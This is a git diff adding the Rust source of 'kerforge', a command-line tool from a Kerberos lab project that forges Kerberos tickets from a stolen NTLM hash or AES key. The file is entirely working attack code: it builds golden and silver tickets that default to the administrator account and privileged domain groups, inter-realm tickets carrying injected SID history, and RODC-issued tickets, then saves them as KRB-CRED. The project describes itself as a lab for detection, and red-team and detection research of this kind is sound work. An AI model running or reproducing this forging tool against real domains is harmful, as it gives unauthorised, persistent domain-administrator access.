@@ -0,0 +1,152 @@
+extern crate kerlab;
+extern crate clap;
+
+use std::fs::File;
+use std::io::Write;
+use std::str::FromStr;
+use clap::{App, Arg};
+use kerlab::asn1::{to_der, GeneralString};
+use kerlab::base::{PrincipalName, PrincipalNameType};
+use kerlab::json::Printer;
+use kerlab::encryption::{EncryptionKey, EType};
+use kerlab::forge::Forge;
+use kerlab::ndr::Sid;
+use kerlab::referral::krbtgt;
+
+const APPLICATION_NAME: &str = "kerforge";
+
+/// Key from its hexadecimal form
+/// Size of the key gives the encryption type
+fn load_key(ntlm: Option<&str>, aes: Option<&str>) -> EncryptionKey {
+    if let Some(ntlm) = ntlm {
+        return EncryptionKey::new_rc4_hmac_from_hash(hex::decode(ntlm).unwrap()).unwrap()
+    }
+    let aes = hex::decode(aes.expect("You need to provide a key (ntlm or aes)")).unwrap();
+    match aes.len() {
+        16 => EncryptionKey::new(EType::Aes128CtsHmacSha196, aes),
+        32 => EncryptionKey::new(EType::Aes256CtsHmacSha196, aes),
+        _ => panic!("AES key must be 16 or 32 bytes long")
+    }
+}
+
+fn main() {
+    let matches = App::new(APPLICATION_NAME)
+        .version("0.1.0")
+        .author("Sylvain Peyrefitte <citronneur@gmail.com>")
+        .about("Kerberos Lab for Fun and Detection")
+        .arg(Arg::with_name("domain")
+            .long("domain")
+            .takes_value(true)
+            .help("Windows Domain of the forged user"))
+        .arg(Arg::with_name("domain-sid")
+            .long("domain-sid")
+            .takes_value(true)
+            .help("SID of the domain of the forged user"))
+        .arg(Arg::with_name("username")
+            .long("username")
+            .takes_value(true)
+            .default_value("administrator")
+            .help("Name of the forged user"))
+        .arg(Arg::with_name("user-id")
+            .long("user-id")
+            .takes_value(true)
+            .default_value("500")
+            .help("Relative id of the forged user"))
+        .arg(Arg::with_name("groups")
+            .long("groups")
+            .takes_value(true)
+            .help("Relative id of groups separated by comma [default: 513,512,518,519,520]"))
+        .arg(Arg::with_name("extra-sid")
+            .long("extra-sid")
+            .takes_value(true)
+            .multiple(true)
+            .help("SID added to the ExtraSids of the PAC (SID history)"))
+        .arg(Arg::with_name("service")
+            .long("service")
+            .takes_value(true)
+            .help("Service of the forged ticket [default: krbtgt/DOMAIN]"))
+        .arg(Arg::with_name("target-realm")
+            .long("target-realm")
+            .takes_value(true)
+            .help("Forge an inter-realm TGT for this trusted realm"))
+        .arg(Arg::with_name("ntlm")
+            .long("ntlm")
+            .takes_value(true)
+            .help("NTLM hash of the service, krbtgt or trust key"))
+        .arg(Arg::with_name("aes")
+            .long("aes")
+            .takes_value(true)
+            .help("AES key of the service, krbtgt or trust key"))
+        .arg(Arg::with_name("kvno")
+            .long("kvno")
+            .takes_value(true)
+            .help("Key version number of the key"))
+        .arg(Arg::with_name("rodc")
+            .long("rodc")
+            .takes_value(true)
+            .help("Forge a ticket issued by the RODC with this number, key is the krbtgt_<number> key"))
+        .arg(Arg::with_name("outfile")
+            .long("outfile")
+            .takes_value(true)
+            .help("Output file path"))
+        .arg(Arg::with_name("json")
+            .long("json")
+            .help("Print messages as JSON lines"))
+        .get_matches();
+
+    let printer = Printer::new(matches.is_present("json"));
+
+    let domain = matches.value_of("domain").expect("You need to provide a domain argument");
+    let domain_sid = Sid::from_str(
+        matches.value_of("domain-sid").expect("You need to provide a domain-sid argument")
+    ).unwrap();
+
+    let mut forge = Forge::new(
+        domain,
+        matches.value_of("username").unwrap_or_default(),
+        domain_sid
+    ).with_user_id(matches.value_of("user-id").unwrap_or_default().parse().unwrap());
+
+    if let Some(groups) = matches.value_of("groups") {
+        let groups = groups.split(',').map(|e| e.trim().parse::<u32>().unwrap()).collect::<Vec<u32>>();
+        forge = forge.with_groups(&groups);
+    }
+
+    if let Some(extra_sids) = matches.values_of("extra-sid") {
+        for extra_sid in extra_sids {
+            forge = forge.with_extra_sid(Sid::from_str(extra_sid).unwrap());
+        }
+    }
+
+    if let Some(kvno) = matches.value_of("kvno") {
+        forge = forge.with_kvno(kvno.parse().unwrap());
+    }
+
+    if let Some(rodc) = matches.value_of("rodc") {
+        forge = forge.with_rodc(rodc.parse().unwrap());
+    }
+
+    let key = load_key(matches.value_of("ntlm"), matches.value_of("aes"));
+
+    let credentials = if let Some(target_realm) = matches.value_of("target-realm") {
+        forge.inter_realm_tgt(target_realm, &key).unwrap()
+    } else {
+        let sname = match matches.value_of("service") {
+            Some(service) => PrincipalName::new(
+                PrincipalNameType::NtSrvInst,
+                service.split('/').map(|e| GeneralString::from_str(e).unwrap()).collect()
+            ),
+            None => krbtgt(&domain.to_uppercase()).unwrap()
+        };
+        forge.ticket(sname, &key, &key).unwrap()
+    };
+
+    printer.structure("KRB-CRED", &credentials);
+
+    if let Some(path) = matches.value_of("outfile") {
+        let mut file = File::create(path).unwrap();
+        file.write_all(&to_der(&credentials).unwrap()).unwrap();
+        printer.message(&format!("Saving KRB-CRED in {}", path));
+    }
+    printer.end();
+}